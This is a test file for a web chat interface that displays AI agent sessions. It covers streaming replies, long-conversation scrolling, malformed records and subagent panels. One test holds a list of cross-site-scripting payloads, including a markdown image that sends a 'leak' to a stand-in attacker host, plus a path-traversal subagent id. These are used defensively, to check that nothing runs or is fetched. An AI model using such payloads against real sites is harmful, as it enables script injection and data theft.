import { appendFileSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ChatItem, ChatPatch } from '../server/contract';
import { Device } from './kit/device';
import { type TestHost, until } from './kit/host';
import { expect, test } from './kit/test';
import { answer, requestCard, startVendor, vendorHost } from './kit/vendor-journey';

/** A session whose agent waits, open in its chat face, and its record to write into. */
async function chat(host: TestHost, prompt = 'say ready') {
  const device = await (await Device.enrol(await host.link())).connect();
  const session = await device.start(await device.project(await host.repository()), prompt);
  await until('it waits', () =>
    ['finished', 'idle'].includes(device.board.sessions.get(session.id)?.state ?? ''),
  );
  const file = join(host.home, 'sessions', session.id, 'conversation.jsonl');
  return { device, session, file, url: `${host.url}/session?id=${session.id}` };
}
let clock = Date.now();
let ids = 0;
type Without<T> = T extends unknown ? Omit<T, 'id' | 'at'> : never;
const line = (item: Without<ChatItem>): string => {
  const patch = { type: 'item', item: { ...item, id: `test-${++ids}`, at: ++clock } } as ChatPatch;
  return `${JSON.stringify(patch)}\n`;
};
const reply = (text: string) => line({ kind: 'reply', text, ref: null });
const replies = (count: number) =>
  Array.from({ length: count }, (_, i) => reply(`Reply number ${i}. ${'words '.repeat(30)}`)).join('');

test('text grows while the agent speaks, becomes its record in place, and acts open to what came of them', async ({
  host,
  desk,
}) => {
  const { device, url, session } = await chat(host);
  await desk.goto(url);
  await expect(desk.getByText('ready', { exact: true })).toBeVisible();
  await device.say(session.id, 'asked Go on\ntalk 2500 one two three four five\nrun echo out; exit 3');
  await expect(desk.locator('.chat .live')).toContainText('one two', { timeout: 20_000 });
  await expect(desk.locator('.chat .live')).toHaveCount(0, { timeout: 20_000 });
  await expect(desk.getByText('one two three four five')).toHaveCount(1);
  const act = desk.getByRole('button', { name: /Run echo out; exit 3/ });
  await expect(act).toContainText('exit 3');
  await act.click();
  await expect(desk.locator('.tool-output')).toHaveText(/^out/);
  device.close();
});

test('a long conversation opens at its end, loads what is before, keeps the reader’s place and says what is new', async ({
  host,
  desk,
}) => {
  const { device, url, file } = await chat(host);
  appendFileSync(file, replies(3_000));
  await desk.goto(url);
  await expect(desk.getByText('Reply number 2999.')).toBeVisible();
  const list = desk.locator('[data-testid="virtuoso-scroller"]');
  await list.hover();
  // Up through several pages: the tail alone holds fewer than this.
  await expect
    .poll(
      async () => {
        await desk.mouse.wheel(0, -20_000);
        const seen = await desk
          .getByText(/Reply number \d+\./)
          .first()
          .textContent();
        return Number(/\d+/.exec(seen ?? '')?.[0] ?? 3_000);
      },
      { timeout: 60_000 },
    )
    .toBeLessThan(1_500);
  const before = await desk
    .getByText(/Reply number \d+\./)
    .first()
    .textContent();
  appendFileSync(file, reply('Something new at the end.'));
  await expect(desk.getByRole('button', { name: '1 new below' })).toBeVisible();
  expect(
    await desk
      .getByText(/Reply number \d+\./)
      .first()
      .textContent(),
  ).toBe(before);
  await desk.getByRole('button', { name: '1 new below' }).click();
  await expect(desk.getByText('Something new at the end.')).toBeVisible();
  await desk.getByRole('button', { name: 'Find in the conversation' }).click();
  await desk.getByRole('textbox', { name: 'Find' }).fill('number 2750.');
  await desk.keyboard.press('Enter');
  await expect(desk.getByText('Reply number 2750.')).toBeVisible();
  device.close();
});

test('the end stays in view while the box below grows, and whoever sends a message sees it arrive', async ({
  host,
  desk,
}) => {
  const { device, url, file } = await chat(host);
  appendFileSync(file, replies(80));
  await desk.setViewportSize({ width: 390, height: 844 });
  await desk.goto(url);
  const end = desk.getByText('Reply number 79.');
  await expect(end).toBeInViewport();
  // A narrower window makes everything above taller, a while after the list itself has its new size.
  await desk.setViewportSize({ width: 1_440, height: 900 });
  await expect(end).toBeInViewport();
  await desk.setViewportSize({ width: 390, height: 844 });
  await expect(end).toBeInViewport();
  const box = desk.getByRole('combobox', { name: /^Message to/ });
  const below = desk.getByRole('button', { name: /new below|To the end/ });
  await box.fill('one\ntwo\nthree\nfour\nfive\nsix');
  await expect(below).toHaveCount(0);
  await expect(end).toBeInViewport();
  appendFileSync(file, reply(`Late words. ${'more '.repeat(60)}`));
  await expect(desk.getByText('Late words.')).toBeInViewport();
  await box.fill('say it arrived');
  await box.press('ControlOrMeta+Enter');
  await expect(desk.getByText('it arrived', { exact: true })).toBeInViewport();
  await expect(below).toHaveCount(0);
  // A reader who went up by a little stays there, until they send something themselves.
  await desk.locator('[data-testid="virtuoso-scroller"]').hover();
  await desk.mouse.wheel(0, -120);
  await expect(below).toBeVisible();
  appendFileSync(file, reply('Not what is being read.'));
  await expect(below).toHaveText(/1 new below/);
  await box.fill('say once more');
  await box.press('ControlOrMeta+Enter');
  await expect(desk.getByText('once more', { exact: true })).toBeInViewport();
  await expect(below).toHaveCount(0);
  device.close();
});

test('whatever an agent or a stranger writes stays text: nothing runs, nothing is fetched, nothing hides', async ({
  host,
  desk,
}) => {
  const { device, url, file } = await chat(host);
  const asked: string[] = [];
  desk.on('request', (request) => {
    if (!request.url().startsWith(host.url)) asked.push(request.url());
  });
  desk.on('dialog', (dialog) => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(2)>',
    '<svg onload=alert(3)>',
    '[click](javascript:alert(4))',
    '[click](data:text/html,<script>alert(5)</script>)',
    '![secret](http://evil.example/?leak=1)',
    '<iframe src="http://evil.example"></iframe>',
    '[plain](http://evil.example/a)',
    '<a href="javascript:alert(6)">x</a>',
    '```js\n</code></pre><script>alert(7)</script>\n```',
    '| a |\n|---|\n| <img src=x onerror=alert(8)> |',
    'safe\u202egnp.exe and \u200bhidden',
  ];
  const act = (object: string) =>
    line({
      kind: 'tool',
      tool: 'shell',
      name: 'Bash',
      files: [],
      agent: null,
      object,
      input: object,
      result: null,
    });
  writeFileSync(
    file,
    [
      ...hostile.map(reply),
      ...hostile.map((text) => line({ kind: 'user', text, images: 0, queued: false })),
      ...hostile.map((text) => line({ kind: 'thinking', text })),
      ...hostile.map((text) => line({ kind: 'notice', tone: 'info', text })),
      ...hostile.map(act),
      reply('the end of it'),
    ].join(''),
  );
  await desk.goto(url);
  await expect(desk.getByText('the end of it')).toBeVisible();
  await desk.locator('[data-testid="virtuoso-scroller"]').hover();
  const top = desk.getByText('Image: secret');
  await expect
    .poll(async () => {
      await desk.mouse.wheel(0, -1_000);
      return top.count();
    })
    .toBeGreaterThan(0);
  expect(
    await desk.locator('.chat script, .chat iframe, .chat img, .chat svg[onload], .chat object').count(),
  ).toBe(0);
  const links = await desk
    .locator('.md a')
    .evaluateAll((all) =>
      all.map((a) => [
        a.getAttribute('href'),
        a.getAttribute('rel'),
        a.getAttribute('target'),
        a.getAttribute('title'),
      ]),
    );
  for (const [href, rel, target, title] of links) {
    expect(href).toMatch(/^https?:\/\//);
    expect([rel, target, title]).toEqual(['noopener noreferrer', '_blank', href]);
  }
  await expect(desk.getByText('⟨U+202E⟩')).toBeVisible();
  expect(asked).toEqual([]);
  device.close();
});

test('a record that is missing, cut, replaced, garbled or from the future is said or skipped, never shown as empty', async ({
  host,
  desk,
}) => {
  const { device, url, file } = await chat(host);
  await desk.goto(url);
  await expect(desk.getByText('ready', { exact: true })).toBeVisible();
  const long = 'x'.repeat(9 * 1024 * 1024);
  appendFileSync(file, `not json\n{"half":\n${JSON.stringify({ long })}\n${reply('after the garbage')}`);
  await expect(desk.getByText('after the garbage')).toBeVisible();
  await expect(desk.getByText(/A record of 9 MB is not shown/)).toBeVisible();
  // Half a line is no news until its end is there.
  const whole = reply('written in two halves');
  appendFileSync(file, whole.slice(0, 20));
  appendFileSync(file, whole.slice(20));
  await expect(desk.getByText('written in two halves')).toBeVisible();
  const text = readFileSync(file, 'utf8');
  truncateSync(file, text.indexOf('\n') + 1);
  await expect(desk.getByText('written in two halves')).toHaveCount(0);
  writeFileSync(file, reply('another conversation'));
  await expect(desk.getByText('another conversation')).toBeVisible();
  await expect(desk.getByText('ready', { exact: true })).toHaveCount(0);
  device.close();
});

test('a subagent’s line opens to what it said and did itself, and goes on while it works', async ({
  host,
  desk,
}) => {
  const { device, url, file } = await chat(host);
  const own = file.replace('conversation.jsonl', 'conversation-sub1.jsonl');
  const result = {
    outcome: 'ok' as const,
    output: 'The report of it.',
    cut: false,
    exitCode: null,
    ms: 1_000,
    files: null,
  };
  const act = { kind: 'tool' as const, name: 'Task', files: [], input: '' };
  const words = 'w'.repeat(200);
  writeFileSync(own, Array.from({ length: 1_500 }, (_, i) => reply(`Step ${i}. ${words}`)).join(''));
  appendFileSync(
    file,
    line({ ...act, tool: 'agent', object: 'look around', agent: 'sub1', result }) +
      line({ ...act, tool: 'agent', object: 'no record', agent: 'sub2', result }) +
      line({ ...act, tool: 'agent', object: 'evil', agent: '../conversation', result }),
  );
  await desk.goto(url);
  await desk.getByRole('button', { name: /Subagent look around/ }).click();
  const inside = desk.getByRole('region', { name: 'What the subagent did' });
  await expect(inside.getByText('Step 1499.')).toBeVisible();
  await expect(desk.getByText('The report of it.')).toBeVisible();
  appendFileSync(
    own,
    line({
      ...act,
      tool: 'shell',
      name: 'Bash',
      object: 'echo deep',
      agent: null,
      result: { ...result, exitCode: 0 },
    }),
  );
  await expect(inside.getByRole('button', { name: /Run echo deep/ })).toContainText('exit 0');
  const shown = await inside.locator('[data-kind]').count();
  await inside.getByRole('button', { name: 'Show what came before' }).click();
  await expect.poll(() => inside.locator('[data-kind]').count()).toBeGreaterThan(shown);
  // What it says is its own: none of it is in the agent's conversation once its line is closed.
  await desk.getByRole('button', { name: /Subagent look around/ }).click();
  await expect(desk.getByText('Step 1499.')).toHaveCount(0);
  for (const name of ['no record', 'evil']) {
    const other = desk.getByRole('button', { name: `Subagent ${name}` });
    await other.click();
    await expect(inside.getByText('There is no record of its own to read.')).toBeVisible();
    await other.click();
  }
  device.close();
});

test('a subagent of Claude Code can be followed in its line while it works and after', async ({ page }) => {
  await vendorHost('claude', async ({ host, repo }) => {
    const prompt = 'AGENT: RUN_BASH: touch deep';
    await startVendor(page, host, repo, { agent: 'Claude Code', branch: 'one', prompt });
    await expect(requestCard(page)).toContainText('touch deep', { timeout: 60_000 });
    await page
      .getByRole('link', { name: /^AGENT/ })
      .first()
      .click();
    const line = page.getByRole('button', { name: /^Subagent/ });
    await expect(line).toContainText('running');
    await line.click();
    const act = page
      .getByRole('region', { name: 'What the subagent did' })
      .getByRole('button', { name: /^Run touch deep/ });
    await expect(act).toContainText('running');
    await answer(page, 'Approve');
    await expect(line).not.toContainText('running', { timeout: 30_000 });
    await expect(act).toContainText('exit 0');
  });
});
